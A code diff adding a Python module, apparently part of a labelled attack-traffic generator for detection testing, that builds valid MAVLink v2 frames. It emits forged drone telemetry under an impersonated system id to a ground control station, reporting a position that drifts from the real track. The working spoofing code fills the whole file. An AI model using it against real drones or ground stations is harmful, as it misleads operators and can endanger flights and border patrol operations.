@@ -1,0 +1,192 @@
+"""MAVLink v2 telemetry and its spoofing against a drone ground control station.
+
+A spoofed-telemetry attack (ATT&CK for Enterprise T1565.002 Transmitted Data
+Manipulation; ATT&CK for ICS T0856 Spoof Reporting Message): the attacker sends
+MAVLink HEARTBEAT and GLOBAL_POSITION_INT messages with a real drone's system id to
+the ground station's UDP port 14550, reporting a position that drifts away from the
+drone's true track.
+
+MAVLink v2 framing is built here byte for byte (Scapy has no MAVLink layer):
+``0xFD, len, incompat, compat, seq, sysid, compid, msgid[3 LE], payload, crc[2 LE]``
+with the X.25 CRC over everything after the magic plus the message's CRC_EXTRA, and
+trailing zero bytes of the payload truncated as v2 requires. tshark 4.0 has no
+MAVLink dissector; it decodes the frames as UDP to port 14550 and the tests check
+the framing and CRC on the bytes tshark reports.
+"""
+
+from __future__ import annotations
+
+import math
+import struct
+
+from pydantic import Field
+
+from scenarios.packets import udp_packet
+from scenarios.techniques.base import (
+    Context,
+    Emission,
+    Endpoint,
+    GroundTruth,
+    Technique,
+    TechniqueParams,
+    TimedPacket,
+)
+
+MAVLINK_PORT = 14550
+HEARTBEAT, GLOBAL_POSITION_INT = 0, 33
+CRC_EXTRA = {HEARTBEAT: 50, GLOBAL_POSITION_INT: 104}
+
+
+def x25_crc(data: bytes, crc: int = 0xFFFF) -> int:
+    """MAVLink's CRC-16/MCRF4XX (X.25 accumulate) over ``data``."""
+    for byte in data:
+        tmp = byte ^ (crc & 0xFF)
+        tmp = (tmp ^ (tmp << 4)) & 0xFF
+        crc = ((crc >> 8) ^ (tmp << 8) ^ (tmp << 3) ^ (tmp >> 4)) & 0xFFFF
+    return crc
+
+
+def mavlink_frame(msgid: int, payload: bytes, *, seq: int, sysid: int, compid: int = 1) -> bytes:
+    """One MAVLink v2 frame (unsigned) for ``msgid`` with ``payload`` in wire order."""
+    body = payload.rstrip(b"\x00") or b"\x00"
+    header = struct.pack("<BBBBBB", len(body), 0, 0, seq & 0xFF, sysid, compid)
+    header += struct.pack("<I", msgid)[:3]
+    crc = x25_crc(header + body)
+    crc = x25_crc(bytes([CRC_EXTRA[msgid]]), crc)
+    return b"\xfd" + header + body + struct.pack("<H", crc)
+
+
+def heartbeat(*, seq: int, sysid: int, armed: bool = True) -> bytes:
+    """HEARTBEAT from a quadrotor (type 2) running ArduPilot (autopilot 3)."""
+    base_mode = 0x81 | (0x80 if armed else 0) | 0x1C
+    payload = struct.pack("<IBBBBB", 4, 2, 3, base_mode & 0xFF, 4, 3)
+    return mavlink_frame(HEARTBEAT, payload, seq=seq, sysid=sysid)
+
+
+def global_position(
+    *, seq: int, sysid: int, boot_ms: int, lat: float, lon: float, alt_m: float, heading: float
+) -> bytes:
+    """GLOBAL_POSITION_INT: degrees * 1e7, millimetres, cm/s, centidegrees."""
+    payload = struct.pack(
+        "<IiiiihhhH",
+        boot_ms & 0xFFFFFFFF,
+        round(lat * 1e7),
+        round(lon * 1e7),
+        round(alt_m * 1000 + 120_000),
+        round(alt_m * 1000),
+        round(math.cos(math.radians(heading)) * 900),
+        round(math.sin(math.radians(heading)) * 900),
+        0,
+        round(heading * 100) % 36000,
+    )
+    return mavlink_frame(GLOBAL_POSITION_INT, payload, seq=seq, sysid=sysid)
+
+
+def telemetry_stream(
+    drone: Endpoint,
+    gcs: Endpoint,
+    start: float,
+    seconds: float,
+    rng_seed: int,
+    *,
+    sysid: int,
+    origin: tuple[float, float],
+    rate: float = 4.0,
+    drift: tuple[float, float] = (0.0, 0.0),
+    sport: int = MAVLINK_PORT,
+    dport: int = MAVLINK_PORT,
+    first_seq: int = 0,
+    boot_ms: int = 600_000,
+) -> list[TimedPacket]:
+    """A drone's telemetry to the GCS: HEARTBEAT at 1 Hz, positions at ``rate`` Hz.
+
+    The track circles ``origin``; ``drift`` (degrees per second) moves the reported
+    position away from it, which is what a spoofer does.
+    """
+    packets: list[TimedPacket] = []
+    seq = first_seq
+    ip_id = rng_seed & 0xFFFF
+    steps = max(1, int(seconds * rate))
+    for i in range(steps):
+        t = i / rate
+        if i % max(1, int(rate)) == 0:
+            frame = heartbeat(seq=seq, sysid=sysid)
+            packets.append(
+                TimedPacket(
+                    round(start + t, 6), udp_packet(drone, gcs, sport, dport, frame, ip_id)
+                )
+            )
+            seq, ip_id = seq + 1, ip_id + 1
+        angle = (t / 120.0) * 2 * math.pi
+        lat = origin[0] + 0.004 * math.sin(angle) + drift[0] * t
+        lon = origin[1] + 0.006 * math.cos(angle) + drift[1] * t
+        frame = global_position(
+            seq=seq,
+            sysid=sysid,
+            boot_ms=boot_ms + int(t * 1000),
+            lat=lat,
+            lon=lon,
+            alt_m=85.0 + 5 * math.sin(angle * 3),
+            heading=(math.degrees(angle) + 90) % 360,
+        )
+        packets.append(
+            TimedPacket(
+                round(start + t + 0.002, 6),
+                udp_packet(drone, gcs, sport, dport, frame, ip_id),
+            )
+        )
+        seq, ip_id = seq + 1, ip_id + 1
+    return packets
+
+
+class SpoofParams(TechniqueParams):
+    system_id: int = Field(default=1, ge=1, le=255)
+    """The MAVLink system id of the drone being impersonated."""
+    duration: float = Field(default=120.0, gt=0, le=3600)
+    rate: float = Field(default=4.0, gt=0, le=50)
+    """Position reports per second."""
+    origin: tuple[float, float] = (43.0905, 27.8892)
+    """Where the spoofed track starts (lat, lon): the Black Sea border patrol area."""
+    drift: tuple[float, float] = (0.00004, -0.00006)
+    """Degrees per second the reported position walks away from the real one."""
+
+
+class DroneTelemetrySpoof(Technique):
+    """Forged MAVLink telemetry with a patrol drone's system id sent to the GCS."""
+
+    name = "drone-telemetry-spoof"
+    attack_ids = ("T1565.002", "T0856")
+    summary = "Spoofed MAVLink v2 drone telemetry to the ground station"
+    Params = SpoofParams
+
+    def generate(self, ctx: Context, params: SpoofParams) -> Emission:  # type: ignore[override]
+        rng = ctx.rng
+        port = ctx.target.services.get("mavlink", MAVLINK_PORT)
+        packets = telemetry_stream(
+            ctx.attacker,
+            ctx.target,
+            ctx.start,
+            params.duration,
+            rng.getrandbits(16),
+            sysid=params.system_id,
+            origin=params.origin,
+            rate=params.rate,
+            drift=params.drift,
+            sport=rng.randint(30000, 60000),
+            dport=port,
+            first_seq=rng.randrange(256),
+            boot_ms=rng.randint(100_000, 5_000_000),
+        )
+        truth = GroundTruth(
+            observables=({"type": "ipv4-addr", "value": ctx.attacker.ip},),
+            pattern=(
+                f"[network-traffic:dst_ref.value = '{ctx.target.ip}' AND "
+                f"network-traffic:dst_port = {port} AND "
+                f"network-traffic:src_ref.value = '{ctx.attacker.ip}']"
+            ),
+            description=(
+                f"forged telemetry for MAVLink system {params.system_id} "
+                f"from {ctx.attacker.ip} to {ctx.target.ip}:{port}"
+            ),
+        )
+        return Emission(tuple(packets), truth)
